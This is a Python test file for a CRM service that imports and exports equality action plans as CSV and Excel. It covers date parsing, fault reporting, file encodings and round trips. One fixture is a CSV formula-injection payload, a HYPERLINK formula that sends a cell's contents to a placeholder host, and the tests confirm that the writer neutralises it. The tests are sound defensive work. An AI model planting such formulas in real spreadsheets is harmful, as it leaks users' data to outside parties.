"""Action plans read from and written to CSV and Excel (crm.services.plan_sheets).

No database and no clock: every date here is written into the test. The plan used
throughout is a real equality action plan as its text export lays it out (tab-separated,
a title and notes above the header, blank lines, a repeated page title, a signature).
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from crm.services.plan_sheets import (
    NO_HEADER,
    NOT_A_SHEET,
    DueReading,
    SheetProblem,
    plan_rows,
    read_by_when,
    read_plan,
    read_table,
    write_csv,
    write_xlsx,
)

TITLE = "CHILDREN AND FAMILY SERVICES EQUALITY AND DIVERSITY ACTION PLAN"
TAIL = "\t\t\t"  # the export ends most rows with empty cells
PAPER_LINES = (
    TITLE,
    "",
    "This action plan integrates actions from our collated action plan within the Corporate "
    "Framework for achieving level 2 of the equality standard for Local Government",
    "",
    "101 L0\ttor Local Government\t\t\t\t\t\t",
    "\tEquality Standard for Local Government\t\tBy Whom\tBy When/ Update" + TAIL,
    "1\tEngagement in impact/needs/ requirement assessment process\ta. Demonstrate use of "
    "Impact Assessments and outcomes - Signage/promotion of diversity with young people/"
    "establish professional links/ raise awareness of DDA issues - linking with Nick Cook "
    "Property Services/ develop links with LAC 16+ -transitions/diversity needs covered in "
    "care, child protection plans/ensure lessons learned from complaints\tAll Managers\t"
    "Ongoing." + TAIL,
    "\t\tb. Include impact assessment actions in team plan template\tAll Managers\t"
    "Sept 07 - ongoing" + TAIL,
    "\t\tc. Ensure all staff know about and are trained in the application of Impact "
    "Assessments\tAll Managers\tOngoing" + TAIL,
    "\t\td. Identify and list all key decisions taken in the Children & Family Services that "
    "could potentially be prejudicious and develop action plan to ensure impact assessments "
    "undertaken on all decision areas including the development of new /revised policies, "
    "embed E&D into every strategy\tAll Managers\tSep-07" + TAIL,
    "2\tEngagement in consultation with designated community, staff and stakeholder groups\t"
    "a. Team to identify and record their designated stakeholder groups\tAll Managers\t"
    "Oct-07" + TAIL,
    "\t\tb. Audit information for each group\tAll Managers\tJul-07" + TAIL,
    "\t\tc. Plan consultation programmes for service improvement - liaison with Pam Stamps "
    "consultation officer 3251 - Citizen Panel, and in service consultation as required\t"
    "All Managers\tOngoing" + TAIL,
    "\t\t<u>'</u>\tAll Managers\tOngoing" + TAIL,
    "3\tDevelopment of Information and Monitoring Systems\ta. All staff ethnicity known and "
    "recorded - all check new intranet entry has their ethnicity details\tAll Managers\t"
    "Sept 07 - ongoing" + TAIL,
    "\t\tb. Continue to support service representation to Diversity Link Group - feedback to "
    "Team meetings & support to E&D forum within the service\tAll Managers\tongoing" + TAIL,
    "\t\tc. All user ethnicity known and recorded, develop good practice in sensitive data "
    "collection (e.g. sexuality)\tAll Managers\tOngoing" + TAIL,
    "",
    TITLE,
    "",
    "4\temployment, pay and service delivery\ta. All Team members to attend E&D training & "
    "updates - Trevor Gordon training opportunity Oct 07\tAll Managers\tOngoing",
    "\t\tb. Ensure all staff have copy of IWC Comprehensive Equalities Plan ands are aware of "
    "the race/disability/gender equality schemes and discuss at team meetings as required\t"
    "All Managers\tOngoing - discussed at Team meetings - staff aware where to find a copies",
    "\t\tc. Ensure staff aware of changes to HR policies (Intranet) d. Ensure staff aware of "
    "translation services\tAll Managers All Managers\tOngoing Ongoing - discussed at Team "
    "meeting - Rosie Barnard first contact if need arises",
    "\t\te. Contracts with providers reflect RES requirements f. Continue to ensure all staff "
    "are given equal opportunity to develop g. Review current multi-agency reporting from in "
    "liaison with Helen Newbery E&D Team\tAll Managers All Managers All Managers\t"
    "Ongoing Ongoing Nov-07",
    "5\tSystem of self- assessment, scrutiny and audit established\tAction required from "
    "Diversity Impact Assessment & action plan to be integrated into Team plans\t"
    "All Managers\tOngoing - annual assessment",
    "\t\tb. Monitor Action Plan via Team meetings quarterly\tAll Managers\tAdd to Team Meeting "
    "agenda July, October, January - update due July 31st",
    "",
    "Jane Davidson",
    "Children & Family Services E&D Lead Officer",
    "1-Jun-07",
)
PAPER_ROWS = [line.split("\t") for line in PAPER_LINES]
AGENDA = "Add to Team Meeting agenda July, October, January - update due July 31st"
PAPER_THEMES = [
    ("1", "Engagement in impact/needs/ requirement assessment process"),
    ("2", "Engagement in consultation with designated community, staff and stakeholder groups"),
    ("3", "Development of Information and Monitoring Systems"),
    ("4", "employment, pay and service delivery"),
    ("5", "System of self- assessment, scrutiny and audit established"),
]
# The paper as it is has four faults a person importing it should put right.
PAPER_PROBLEMS = [
    "Row 14: the action has no letter: it will be d",
    "Row 23: put each action on its own row (this row seems to hold actions c and d)",
    "Row 24: put each action on its own row (this row seems to hold actions e and f)",
    "Row 25: the action has no letter: it will be a",
]
HEADER = ["No.", "Theme", "Action", "By whom", "By when / Update"]

# --- By when --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind", "on"),
    [
        ("31/07/2008", "date", date(2008, 7, 31)),
        ("31.7.08", "date", date(2008, 7, 31)),
        ("2008-07-31", "date", date(2008, 7, 31)),
        ("31 July 2008", "date", date(2008, 7, 31)),
        ("31st July 2008", "date", date(2008, 7, 31)),
        ("1-Jun-07", "date", date(2007, 6, 1)),
        ("3rd of march 1999", "date", date(1999, 3, 3)),
        ("Sept 07", "month", date(2007, 9, 1)),
        ("Sep-07", "month", date(2007, 9, 1)),
        ("Oct-07", "month", date(2007, 10, 1)),
        ("Jul-07", "month", date(2007, 7, 1)),
        ("Nov 07", "month", date(2007, 11, 1)),
        ("July 2008", "month", date(2008, 7, 1)),
        ("2008 July", "month", date(2008, 7, 1)),
        ("07/2008", "month", date(2008, 7, 1)),
        ("SEPTEMBER 2010", "month", date(2010, 9, 1)),
        ("dec/69", "month", date(2069, 12, 1)),
        ("Jan 70", "month", date(1970, 1, 1)),
        ("feb 00", "month", date(2000, 2, 1)),
    ],
)
def test_a_date_is_read_in_every_form_plans_write_it(text: str, kind: str, on: date) -> None:
    assert read_by_when(text) == DueReading(kind=kind, on=on, ongoing=False, note="")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Ongoing", DueReading("ongoing", None, True, "")),
        ("ongoing.", DueReading("ongoing", None, True, "")),
        ("Ongoing.", DueReading("ongoing", None, True, "")),
        ("Sept 07 - ongoing", DueReading("month", date(2007, 9, 1), True, "")),
        ("Ongoing - annual assessment", DueReading("ongoing", None, True, "annual assessment")),
        (
            "Ongoing - discussed at Team meetings - staff aware where to find a copies",
            DueReading(
                "ongoing", None, True,
                "discussed at Team meetings - staff aware where to find a copies",
            ),
        ),
        ("Review 31/07/2008.", DueReading("date", date(2008, 7, 31), False, "Review")),
    ],
)
def test_ongoing_and_the_words_besides_a_date(text: str, expected: DueReading) -> None:
    assert read_by_when(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        AGENDA,  # months with no year are not dates
        "31/02/2008",  # no such day
        "31 February 2008",
        "13/2008",
        "Q3",
    ],
)
def test_text_that_is_no_date_is_kept_whole_as_the_note(text: str) -> None:
    assert read_by_when(text) == DueReading(kind="", on=None, ongoing=False, note=text)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(
    ["Sept", "07", "-", " ", "ongoing", "31", "/", "02", "2008", ".", "July", "st", "(", "'", "é"]
)).map("".join))
@example("07-2008ongoing")  # a month, then "ongoing" with no space: both read
def test_any_by_when_text_reads_without_error(text: str) -> None:
    reading = read_by_when(text)

    assert (reading.on is not None) == (reading.kind in ("date", "month"))
    # "Ongoing" as a word is always read; and ongoing is read only where the text says it
    # (perhaps straight after a date, "07-2008ongoing", which is read and taken out first).
    if re.search(r"\bon[\s-]?going\b", text, re.IGNORECASE):
        assert reading.ongoing
    if reading.ongoing:
        assert re.search(r"on[\s-]?going", text, re.IGNORECASE)
    assert len(reading.note) <= len(text)


def test_a_blank_cell_reads_as_nothing() -> None:
    assert read_by_when("") == DueReading(kind="", on=None, ongoing=False, note="")
    assert read_by_when("   ") == DueReading(kind="", on=None, ongoing=False, note="")


def test_an_impossible_day_does_not_hide_a_real_month_after_it() -> None:
    reading = read_by_when("31/02/2008, or March 2008")
    assert (reading.kind, reading.on, reading.note) == ("month", date(2008, 3, 1), "31/02/2008, or")


# --- The paper's own rows ----------------------------------------------------------------


def _by_row(plan):
    return {action.row: action for action in plan.actions}


def test_the_papers_rows_read_as_its_themes_and_actions() -> None:
    plan = read_plan(PAPER_ROWS)

    assert plan.title == TITLE
    assert plan.themes == PAPER_THEMES
    assert [(a.theme_number, a.letter) for a in plan.actions] == [
        ("1", "a"), ("1", "b"), ("1", "c"), ("1", "d"),
        ("2", "a"), ("2", "b"), ("2", "c"), ("2", "d"),
        ("3", "a"), ("3", "b"), ("3", "c"),
        ("4", "a"), ("4", "b"), ("4", "c"), ("4", "e"),
        ("5", "a"), ("5", "b"),
    ]
    actions = _by_row(plan)
    first = actions[7]
    assert first.theme_title == PAPER_THEMES[0][1]
    assert first.what.startswith("Demonstrate use of Impact Assessments and outcomes")
    assert first.by_whom == "All Managers"
    assert first.due == DueReading("ongoing", None, True, "")
    assert actions[8].due == DueReading("month", date(2007, 9, 1), True, "")
    assert actions[10].due == DueReading("month", date(2007, 9, 1), False, "")
    assert actions[11].what == "Team to identify and record their designated stakeholder groups"
    assert actions[11].due == DueReading("month", date(2007, 10, 1), False, "")
    assert actions[12].due == DueReading("month", date(2007, 7, 1), False, "")
    assert actions[16].due.kind == "ongoing"  # "ongoing", in lower case
    assert actions[22].due.note == "discussed at Team meetings - staff aware where to find a copies"
    fifth_a, fifth_b = actions[25], actions[26]
    assert (fifth_a.theme_number, fifth_a.theme_title) == PAPER_THEMES[4]
    assert fifth_a.what.startswith("Action required from Diversity Impact Assessment")
    assert fifth_a.due == DueReading("ongoing", None, True, "annual assessment")
    assert fifth_b.what == "Monitor Action Plan via Team meetings quarterly"
    assert fifth_b.by_when_text == AGENDA
    assert fifth_b.due == DueReading("", None, False, AGENDA)


def test_the_papers_faults_are_each_named_with_the_files_row() -> None:
    plan = read_plan(PAPER_ROWS)

    assert not plan.ok
    assert plan.problems == PAPER_PROBLEMS
    actions = _by_row(plan)
    assert actions[14].problems == [PAPER_PROBLEMS[0]]
    assert actions[14].what == "<u>'</u>"
    assert actions[25].problems == [PAPER_PROBLEMS[3]]
    assert actions[7].problems == []
    assert actions[26].problems == []


def test_the_paper_saved_as_tab_separated_text_reads_the_same() -> None:
    data = "\r\n".join(PAPER_LINES).encode("cp1252")

    rows = read_table(data, "action plan.txt")

    assert rows[1] == []  # blank rows stay, so row numbers are the file's own
    assert rows[5] == [
        "", "Equality Standard for Local Government", "", "By Whom", "By When/ Update",
    ]
    assert rows[-1] == ["1-Jun-07"]
    plan = read_plan(rows)
    assert plan.title == TITLE
    assert plan.themes == PAPER_THEMES
    assert len(plan.actions) == 17
    assert plan.problems == PAPER_PROBLEMS


# --- Faults in a plan ---------------------------------------------------------------------


def test_every_fault_is_listed_with_its_row_not_only_the_first() -> None:
    rows = [
        HEADER,
        ["", "", "a. Before any theme", "Lead", "Oct-07"],
        ["1", "Engagement", "a. Map the groups", "All Managers", "Oct-07"],
        ["", "", "", "All Managers", "Nov-07"],
        ["", "", "Audit each group", "All Managers", "Jul-07"],
        ["", "", "a) Again", "Lead", "2008"],
        ["2", "Monitoring", "(a) Record ethnicity", "Lead", "Ongoing"],
        ["2", "Monitoring again", "b - Keep records", "Lead", "Ongoing"],
        ["", "", "c.", "Lead", "Ongoing"],
    ]

    plan = read_plan(rows)

    assert plan.problems == [
        "Row 2: the action comes before any numbered theme",
        "Row 4: enter what will be done",
        "Row 5: the action has no letter: it will be b",
        "Row 6: theme 1 already has an action a (row 3): give each action its own letter",
        "Row 8: theme 2 is already on row 7: give each theme its own number",
        "Row 9: enter what will be done",
    ]
    assert not plan.ok
    assert plan.themes == [("1", "Engagement"), ("2", "Monitoring")]
    actions = _by_row(plan)
    assert sorted(actions) == [2, 3, 5, 6, 7, 8, 9]
    assert actions[2].problems == ["Row 2: the action comes before any numbered theme"]
    assert actions[2].theme_number == ""
    assert (actions[5].letter, actions[5].what) == ("b", "Audit each group")
    assert actions[6].problems == [plan.problems[3]]
    assert (actions[7].letter, actions[7].what) == ("a", "Record ethnicity")
    assert (actions[8].theme_number, actions[8].letter, actions[8].what) == (
        "2", "b", "Keep records"
    )
    assert actions[3].problems == []


def test_a_sheet_without_the_header_says_so() -> None:
    plan = read_plan([["Action", "Who", "When"], ["a. Something", "Lead", "Oct-07"]])

    assert plan.problems == [NO_HEADER]
    assert plan.problems == ["The file has no header row with 'By whom' and 'By when'"]
    assert (plan.title, plan.themes, plan.actions, plan.ok) == ("", [], [], False)


def test_a_title_and_blank_rows_above_the_header_count_in_row_numbers() -> None:
    rows = [
        [],
        ["", "Mersey-Cheshire equality action plan 2024", ""],
        ["Agreed by the Area board"],
        [],
        ["", "", "", "BY  WHOM", "by when"],
        [],
        ["1", "Hate crime", "Meet the groups", "Lead", "Sept 07"],
    ]

    plan = read_plan(rows)

    assert plan.title == "Mersey-Cheshire equality action plan 2024"
    assert plan.themes == [("1", "Hate crime")]
    assert plan.problems == ["Row 7: the action has no letter: it will be a"]
    assert plan.actions[0].row == 7


def test_a_sheet_repeating_its_theme_on_every_row_is_one_theme() -> None:
    rows = [
        HEADER,
        ["1", "Engagement", "a. Map the groups", "Lead", "Oct-07"],
        ["1", "Engagement", "b. Audit them", "Lead", "Nov-07"],
    ]

    plan = read_plan(rows)

    assert plan.ok, plan.problems
    assert plan.themes == [("1", "Engagement")]
    assert [a.letter for a in plan.actions] == ["a", "b"]


# --- Reading files ------------------------------------------------------------------------


def test_a_csv_saved_by_excel_in_windows_1252_is_read() -> None:
    text = (
        "Plan for the Area\r\n"
        "No.,Theme,Action,By whom,By when\r\n"
        "1,Café outreach,a. Budget £500 for the community’s event,\"Lead, Area\",Oct-07\r\n"
    )
    data = text.encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")

    rows = read_table(data, "PLAN.CSV")

    assert rows[2] == [
        "1", "Café outreach", "a. Budget £500 for the community’s event", "Lead, Area", "Oct-07",
    ]
    plan = read_plan(rows)
    assert plan.ok
    assert plan.actions[0].what == "Budget £500 for the community’s event"


def test_a_csv_with_a_bom_and_semicolons_is_read() -> None:
    text = (
        "No.;Theme;Action;By whom;By when / Update;;\n"
        "1;Engagement, consultation;a. Meet; then write up;All Managers;Sept 07 - ongoing;;\n"
        ";;;;\n"
        ";;b. Publish the notes;All Managers;31/07/2008\n"
    )
    # the second cell in row 2 has a comma, and its action a semicolon, so it is quoted
    text = text.replace("a. Meet; then write up", '"a. Meet; then write up"')
    data = text.encode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")

    rows = read_table(data, "plan.csv")

    assert rows == [
        ["No.", "Theme", "Action", "By whom", "By when / Update"],
        ["1", "Engagement, consultation", "a. Meet; then write up", "All Managers",
         "Sept 07 - ongoing"],
        [],
        ["", "", "b. Publish the notes", "All Managers", "31/07/2008"],
    ]
    plan = read_plan(rows)
    assert plan.ok
    assert [a.due.on for a in plan.actions] == [date(2007, 9, 1), date(2008, 7, 31)]
    assert [a.row for a in plan.actions] == [2, 4]


def _with_cached_value(data: bytes, formula: str, cached: str) -> bytes:
    """The workbook with a value saved beside a formula, as Excel saves one it worked out."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = content.decode()
                xml, count = re.subn(
                    rf"<f>{re.escape(formula)}</f><v ?/>", f"<f>{formula}</f><v>{cached}</v>", xml
                )
                assert count == 1
                content = xml.encode()
            target.writestr(item, content)
    return out.getvalue()


def test_an_xlsx_is_read_from_its_first_sheet_values_not_formulas() -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "  Area action plan  "
    sheet.append([])
    sheet.append(["No.", "Theme", "Action", "By whom", "By when / Update", None, None])
    sheet.append([1, "Engagement", "a. Map the groups", "Lead", datetime(2008, 7, 31)])
    sheet.append([2.0, "Monitoring", "a. Count the returns", "=1+1", 7.5])
    sheet.append([None, None, "b. Review", "=2+2", None])
    sheet["A9"] = "last"
    workbook.create_sheet("Notes")["A1"] = "not this sheet"
    buffer = io.BytesIO()
    workbook.save(buffer)
    # Excel saved 5 beside =2+2; the reader must give that, not work the formula out.
    data = _with_cached_value(buffer.getvalue(), "2+2", "5")

    rows = read_table(data, "plan.xlsx")

    assert rows == [
        ["Area action plan"],
        [],
        ["No.", "Theme", "Action", "By whom", "By when / Update"],
        ["1", "Engagement", "a. Map the groups", "Lead", "2008-07-31"],
        ["2", "Monitoring", "a. Count the returns", "", "7.5"],  # no cached value: blank
        ["", "", "b. Review", "5"],
        [],
        [],
        ["last"],
    ]
    plan = read_plan(rows)
    assert plan.title == "Area action plan"
    assert plan.themes == [("1", "Engagement"), ("2", "Monitoring")]
    assert plan.actions[0].due == DueReading("date", date(2008, 7, 31), False, "")
    assert [a.row for a in plan.actions] == [4, 5, 6]


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "plan.pdf"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00", "plan.xls"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00", "plan.csv"),
        (b"PK\x03\x04 not really a zip", "plan.xlsx"),
        (b"No.,Theme\n", "plan.xlsx"),
    ],
)
def test_a_file_that_is_neither_csv_nor_xlsx_is_refused(data: bytes, filename: str) -> None:
    with pytest.raises(SheetProblem, match="^The file must be a CSV or an Excel \\(XLSX\\) file$"):
        read_table(data, filename)


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")

    with pytest.raises(SheetProblem) as raised:
        read_table(buffer.getvalue(), "plan.docx")

    assert str(raised.value) == NOT_A_SHEET


# --- Writing ------------------------------------------------------------------------------

PLAN = [
    ("1", "Engagement in consultation", [
        ("a", "Team to identify and record their stakeholder groups", "All Managers", "Oct-07"),
        ("b", "Audit information for each group - £0 cost", "All Managers", "Jul-07"),
        ("c", "Plan consultation programmes", "Lead, Area", "Sept 07 - ongoing"),
    ]),
    ("2", "Monitoring", [("a", "Record ethnicity, \"sensitively\"", "Lead", "31/07/2008")]),
    ("3", "Theme with no actions yet", []),
    ("5", "Self-assessment", [("a", "Annual review\nwith the panel", "Héloïse O’Brien",
                               "Ongoing - annual assessment")]),
]


def _as_plan(plan) -> tuple[list, list]:
    themes = [(number, title) for number, title, _ in plan]
    actions = [
        (number, title, *action) for number, title, actions in plan for action in actions
    ]
    return themes, actions


def _read_back(parsed) -> tuple[list, list]:
    actions = [
        (a.theme_number, a.theme_title, a.letter, a.what, a.by_whom, a.by_when_text)
        for a in parsed.actions
    ]
    return parsed.themes, actions


def test_plan_rows_lay_the_plan_out_as_the_paper_does() -> None:
    rows = plan_rows(PLAN)

    assert rows[0] == HEADER
    assert rows[1] == ["1", "Engagement in consultation",
                       "a. Team to identify and record their stakeholder groups", "All Managers",
                       "Oct-07"]
    assert rows[2][:3] == ["", "", "b. Audit information for each group - £0 cost"]
    assert rows[5] == ["3", "Theme with no actions yet", "", "", ""]


def test_plan_rows_read_back_as_the_same_plan() -> None:
    parsed = read_plan(plan_rows(PLAN))

    assert parsed.ok, parsed.problems
    assert _read_back(parsed) == _as_plan(PLAN)


def test_the_plan_survives_a_csv_round_trip() -> None:
    data = write_csv(plan_rows(PLAN))

    assert data.startswith(b"\xef\xbb\xbf")
    parsed = read_plan(read_table(data, "plan.csv"))
    assert parsed.ok, parsed.problems
    assert _read_back(parsed) == _as_plan(PLAN)


def test_the_plan_survives_an_xlsx_round_trip() -> None:
    data = write_xlsx(plan_rows(PLAN), "Mersey-Cheshire action plan")

    parsed = read_plan(read_table(data, "plan.xlsx"))
    assert parsed.ok, parsed.problems
    assert parsed.title == "Mersey-Cheshire action plan"
    assert _read_back(parsed) == _as_plan(PLAN)


FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
FORMULA_PLAN = [("1", "-2 theme", [("a", "Check links", FORMULA, "+44 20 7946 0000")])]


def test_formula_like_text_in_a_csv_is_neutralised_and_reads_back_as_typed() -> None:
    data = write_csv(plan_rows(FORMULA_PLAN))

    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert "'-2 theme" in text
    assert "'+44 20" in text
    assert not re.search(r"(^|,)[=+\-@]", text, re.MULTILINE)
    parsed = read_plan(read_table(data, "plan.csv"))
    assert _read_back(parsed) == _as_plan(FORMULA_PLAN)


def test_formula_like_text_in_an_xlsx_is_stored_as_text() -> None:
    data = write_xlsx(plan_rows(FORMULA_PLAN), "=1+1")

    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert (sheet["D3"].value, sheet["D3"].data_type) == (FORMULA, "s")
    assert (sheet["E3"].value, sheet["E3"].data_type) == ("+44 20 7946 0000", "s")
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
    parsed = read_plan(read_table(data, "plan.xlsx"))
    assert parsed.title == "=1+1"
    assert _read_back(parsed) == _as_plan(FORMULA_PLAN)


def test_the_xlsx_wraps_text_in_sensible_columns() -> None:
    data = write_xlsx(plan_rows(PLAN), "Plan")

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDE"}
    assert widths["A"] < widths["C"] <= 60
    assert all(6 <= width <= 60 for width in widths.values())
    assert sheet["C3"].alignment.wrap_text
    assert sheet["A2"].font.bold


_WORDS = st.text(alphabet="abcdefghijklmnopqrstuvwxyz ABCDEZ0123456789£é’,", min_size=1).map(
    lambda text: " ".join(text.split())
).filter(bool)


@st.composite
def _plans(draw) -> list:
    numbers = draw(st.lists(st.integers(1, 99), unique=True, max_size=5))
    plan = []
    for number in numbers:
        count = draw(st.integers(0, 4))
        actions = [
            (chr(ord("a") + i), draw(_WORDS), draw(_WORDS), draw(_WORDS)) for i in range(count)
        ]
        plan.append((str(number), draw(_WORDS), actions))
    return plan


@settings(max_examples=50, deadline=None)
@given(_plans())
def test_any_plan_survives_both_round_trips(plan) -> None:
    rows = plan_rows(plan)
    for data, filename in ((write_csv(rows), "plan.csv"), (write_xlsx(rows, "Plan"), "plan.xlsx")):
        parsed = read_plan(read_table(data, filename))
        assert parsed.ok, parsed.problems
        assert _read_back(parsed) == _as_plan(plan)
